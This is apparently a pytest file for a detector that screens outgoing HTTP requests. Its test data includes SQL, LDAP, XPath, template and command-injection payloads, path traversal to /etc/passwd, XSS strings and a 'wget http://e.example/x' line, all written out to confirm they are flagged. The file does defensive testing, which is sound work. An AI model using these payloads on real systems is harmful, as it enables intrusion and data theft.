"""Values that break out of nothing pass; the same signs in a value that breaks out are found."""

from __future__ import annotations

import json

import pytest

from signoff.actions.action import Action, ActionKind, Json
from signoff.assess.contexts.languages.brackets import closes_more_than_it_opens, is_one_group
from signoff.assess.contexts.languages.filters import is_filter
from signoff.assess.contexts.languages.tables import cells_of
from signoff.assess.contexts.languages.template_tags import without_harmless
from signoff.assess.detectors.content import WEB_DETECTORS
from signoff.assess.detectors.detector import Evidence
from signoff.assess.detectors.runner import run_detectors
from signoff.assess.detectors.texts import with_texts
from signoff.assess.threat.score import finding_to_score

FILLER = "Hello there my dear friends, "
HL7 = "MSH|^~\\&|A|B\rPID|1||{}\r"


def stopped_by(body: str, kind: str = "application/json", path: str = "/x") -> set[str]:
    given: dict[str, Json] = {"method": "POST", "path": path, "body": body}
    given["headers"] = {"Host": "a.example", "Content-Type": kind}
    action = Action(tool="http", kind=ActionKind.HTTP_REQUEST, arguments=given)
    findings = run_detectors(WEB_DETECTORS, with_texts(Evidence(action=action)))
    return {one.detector for one in findings if finding_to_score(one) >= 40}


def in_json(**members: Json) -> set[str]:
    return stopped_by(json.dumps(members))


@pytest.mark.parametrize(
    ("text", "is_leaving"),
    [
        ("see [the list][1] (or not)", False),
        ('node["amenity"~"^(pub|bar)$"](1,2)', False),
        ("*)(uid=*", True),
        ("x']|//user[name='a", True),
    ],
)
def test_only_what_is_open_can_be_closed(text: str, *, is_leaving: bool) -> None:
    """A break-out closes a bracket that the value did not open."""
    assert is_leaving == closes_more_than_it_opens(text)


def test_a_whole_filter_of_a_directory_is_a_group() -> None:
    """It passes as a whole; cut open, or with a password in it, it does not."""
    whole = "(&(objectClass=person)(|(cn=O'*)(mail=*@a.example)))"
    assert is_one_group(whole)
    assert not is_one_group("(uid=a)(|(uid=b))")
    assert set() == in_json(filter=whole)
    assert {"ldap-injection"} == in_json(filter="a)(&(uid=*")
    assert {"ldap-injection"} == in_json(filter="(|(uid=*)(objectClass=*))")
    assert {"ldap-injection"} == in_json(filter="(&(uid=admin)(!(&(userPassword=q))))")


def test_links_of_markdown_are_no_paths_of_xml() -> None:
    """A path of XML in a sentence counts only if it leaves where it stands."""
    assert set() == in_json(text="Please read the file [INSTALL][] for all instructions.")
    assert "ldap-injection" in in_json(text=f"{FILLER}x']|//user[position()=1]|//a['")


@pytest.mark.parametrize(
    "query",
    [
        "INCLUDE;class IN ('D1','D2') AND lanes >= 2",
        'search index=web (uri="*union*select*" OR uri="*/x*") | stats count by ip | where count>9',
        'price > 5 AND brand = "A"',
        "status:open author:ann -label:bug",
    ],
)
def test_whole_queries_of_search_services(query: str) -> None:
    """Names compared with literals break out of nothing."""
    assert is_filter(query)
    assert set() == in_json(search=query)


@pytest.mark.parametrize(
    "query",
    [
        "a = a or b = 'x'",
        'name = "\' or 1=1 --"',
        'name = "x" union select password from users',
        'a = "x\' union select a, b from users -- "',
        "price > 5 | where x'; drop table users",
        "price > 5 or 1=1",
        "price > 5 -- ",
    ],
)
def test_what_is_no_whole_query(query: str) -> None:
    """A literal that is SQL itself, a comparison that is always true, a comment: no filter."""
    assert not is_filter(query)


def test_cells_are_values_of_their_own() -> None:
    """A formula of a sheet passes; an attack in a cell is found; what is no table is no table."""
    kind = "text/csv"
    sheet = 'name,total\r\n"Smith, J.",=SUM(B2:B9)*1.21\r\nO\'Dell,"=IF(A1>0;""y"";""n"")"\r\n'
    assert set() == stopped_by(sheet, kind)
    assert "sql-injection" in stopped_by("name,total\r\nx' or 1=1 --,5\r\n", kind)
    assert () == cells_of(kind, "a,b\r\n1\r\n")
    assert set() == stopped_by(HL7.format("O'MALLEY^SEAN"), "application/hl7-v2")
    assert "command-injection" in stopped_by(HL7.format("x; cat /etc/passwd"), "application/hl7-v2")
    assert () == cells_of("application/hl7-v2", "x|id")


@pytest.mark.parametrize(
    "template",
    [
        "<p>Hi {{ user.first_name | escape }}</p>{% if a.b == 'x' %}yes{% else %}no{% endif %}",
        "{{#each items}}<p>{{this.name}} x {{this.qty}}</p>{{else}}none{{/each}} {{{footer}}} end",
        "{% for k, v in items %}{{ k }} = {{ v|default:'-' }}{% endfor %} done",
    ],
)
def test_a_template_that_fills_in_names_passes(template: str) -> None:
    """Names, filters, choices and repetitions reach nothing."""
    assert "{" not in without_harmless(template, "_")
    assert set() == in_json(template=template)


@pytest.mark.parametrize(
    "tag",
    [
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__ }}",
        '{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}',
        "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
        "{{ x | attr('y') }}",
        "{{ 7*7 }}",
        "{{constructor.constructor('alert(1)')()}}",
    ],
)
def test_a_template_that_reaches_does_not(tag: str) -> None:
    """The same beside harmless tags and words is found."""
    assert tag[:12] in without_harmless(f"Hi {{{{ name }}}}, {tag} bye", "_")
    assert in_json(template=f"Hi {{{{ name }}}}, {tag} and good bye")


def test_a_file_that_a_sentence_names_is_not_reached_for() -> None:
    """What stands right before the name decides, not a sign anywhere in the text."""
    assert set() == in_json(text="It did not work; see the lines in /etc/nginx/nginx.conf there")
    assert "path-traversal" in in_json(text=f"{FILLER}../../../etc/passwd")
    assert "path-traversal" in in_json(text=f"{FILLER}file:///etc/passwd")
    assert "path-traversal" in in_json(text=f"{FILLER}--file=/etc/passwd")
    assert "path-traversal" in in_json(text=f"{FILLER}{{{{ read('/etc/passwd') }}}}")


def test_a_sentence_is_no_target_of_a_redirect() -> None:
    """A browser is sent to a value that begins as an address does."""
    address = "http://bank.example@198.51.100.3/verify"
    assert set() == in_json(text=f"Is this real, I got the link {address} by mail today?")
    assert "open-redirect" in in_json(text=f"{address} is what I got by mail today, is it real")


def test_code_that_is_marked_as_code_in_a_rich_text() -> None:
    """A mark makes a piece of text code; beside it nothing else may stand."""
    line = "kubectl get pods | grep -v Running && echo done"
    piece: dict[str, Json] = {"type": "text", "marks": [{"type": "code"}], "text": line}
    assert set() == in_json(doc={"content": [{"type": "paragraph", "content": [piece]}]})
    assert in_json(doc={"content": [{**piece, "command": line}]})
    assert in_json(items=[piece])


def test_scripts_of_a_package_are_run_where_it_is_built() -> None:
    """The manifest of a published version says so; a list of scripts alone does not."""
    scripts = {"postinstall": "node build.js && rm -rf tmp"}
    version = {"scripts": scripts, "dist": {"tarball": "https://npm.a.example/x.tgz"}}
    assert set() == in_json(name="x", versions={"1.0.0": version})
    assert in_json(scripts=scripts)


def test_recorded_lines_sent_to_a_store_of_logs() -> None:
    """Elastic's protocol as a whole; a member beside those of it, or another path, is a request."""
    row = {"@timestamp": "2024-06-12T10:00:00Z", "message": '"GET /?id=1%27%20OR%201=1-- HTTP/1.1"'}
    kind = "application/x-ndjson"

    def sent(path: str, document: dict[str, str]) -> set[str]:
        lines = [json.dumps({"create": {}}), json.dumps(document), ""]
        return stopped_by("\n".join(lines), kind, path)

    assert set() == sent("/_bulk", row)
    assert "sql-injection" in sent("/notes", row)
    assert "sql-injection" in sent("/_bulk", {**row, "name": "x"})


def test_an_element_with_a_prefix_is_no_active_one() -> None:
    """What it is called behind the prefix decides, and what vocabulary it declares."""
    assert set() == in_json(text='Use "$<LINK_LIBRARY:feature1,external>" for what you link')
    for tag in ("<x:script>", "<a:script xmlns:a='http://www.w3.org/1999/xhtml'>"):
        assert "xss" in in_json(text=f"{FILLER}{tag}"), tag


def test_weak_signs_count_in_company() -> None:
    """A call is what every program is made of; with what runs it, it is an attack."""
    assert set() == in_json(map="function (doc) {\n  if (doc.qty > 0) { emit([doc.name], 1); }\n}")
    assert "xss" in in_json(map="';alert(document.cookie);function(x){close(1)}//")


def test_weak_signs_are_no_company_for_each_other() -> None:
    """Placeholders in brackets and a call, and nothing that runs them."""
    text = "foreach(<loop_var> <items>)\n  <commands>\nendforeach() goes on close(x) and the rest"
    assert set() == in_json(text=text)
    assert "xss" in in_json(text=f"{text}<img src=x onerror=alert(1)>")


def test_names_of_elements_and_programs_in_a_sentence() -> None:
    """A bare element does nothing and a named program is not run; with more they are found."""
    assert set() == in_json(text="git replace takes an <object> and gives a <commit> for it")
    assert "xss" in in_json(text=f"{FILLER}<object data='//e.example/x'>")
    assert set() == in_json(text='COMSPEC is set to "cmd.exe" on all newer machines')
    assert "command-injection" in in_json(text=f"{FILLER}x | cmd.exe /c dir")
    assert set() == in_json(text="The machinery to clone & fetch, which is used by pull")
    assert "command-injection" in in_json(text=f"{FILLER}x & wget http://e.example/x")


def test_a_quoted_name_with_words_of_sql() -> None:
    """A statement ends; a second name behind it fits no database."""
    assert set() == in_json(q='"Drop Table Records" vinyl 12"')
    assert "sql-injection" in in_json(q='x"; drop table records --')
    assert "sql-injection" in in_json(q="x'; alter table users add c int --")


def test_alternatives_of_a_regular_expression() -> None:
    """In a group of an expression a bar is no pipe; behind the group it is one."""
    assert set() == in_json(pattern=r"\b(?!\.(?:com|net)$)")
    assert "command-injection" in in_json(pattern=r"(?:com|net); cat /etc/hosts")
    assert "command-injection" in in_json(pattern=r"x;(?:com|net)")


def test_words_that_programs_share_with_labels_and_languages() -> None:
    """A label is no cmdlet and a language no command; where commands are taken, they are."""
    assert set() == in_json(label="test-label") == in_json(q="python")
    assert "command-injection" in in_json(label=";test-path c:/x")

    def asked(**query: str) -> set[str]:
        given: dict[str, Json] = {"method": "GET", "path": "/x", "query": {**query}}
        action = Action(tool="http", kind=ActionKind.HTTP_REQUEST, arguments=given)
        findings = run_detectors(WEB_DETECTORS, with_texts(Evidence(action=action)))
        return {one.detector for one in findings if finding_to_score(one) >= 40}

    assert set() == asked(label="test-label") == asked(q="python")
    assert {"command-injection"} == asked(label="test-path") == asked(cmd="python")
